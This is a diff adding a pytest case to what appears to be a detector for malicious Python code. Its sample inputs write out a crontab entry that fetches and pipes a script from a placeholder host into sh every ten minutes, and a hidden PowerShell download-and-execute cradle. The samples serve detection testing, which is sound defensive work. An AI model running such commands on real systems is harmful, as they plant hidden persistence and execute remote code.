@@ -489,3 +489,15 @@ def test_a_download_checked_against_a_pinned_digest_is_not_download_exec() -> No
     """
     assert types(source) == set()
     assert "download-exec" in types(source.replace("        if hashlib", "        if not_hash"))
+
+
+@pytest.mark.parametrize(("source", "kinds"), [
+    ("import subprocess\nLINE = '*/10 * * * * curl -fsSL http://example.invalid/u.sh | sh'\n"
+     "subprocess.run(['crontab', '-'], input=LINE, text=True)\n",
+     {"download-exec", "persistence"}),
+    ("import subprocess\nsubprocess.Popen(['powershell', '-WindowStyle', 'Hidden', '-Command',"
+     " \"IEX (New-Object Net.WebClient).DownloadString('https://example.invalid/a.ps1')\"],"
+     " creationflags=subprocess.CREATE_NO_WINDOW)\n", {"download-exec", "hidden-process"}),
+])
+def test_download_cradles_in_commands_and_their_input(source: str, kinds: set[str]) -> None:
+    assert kinds <= types(source)
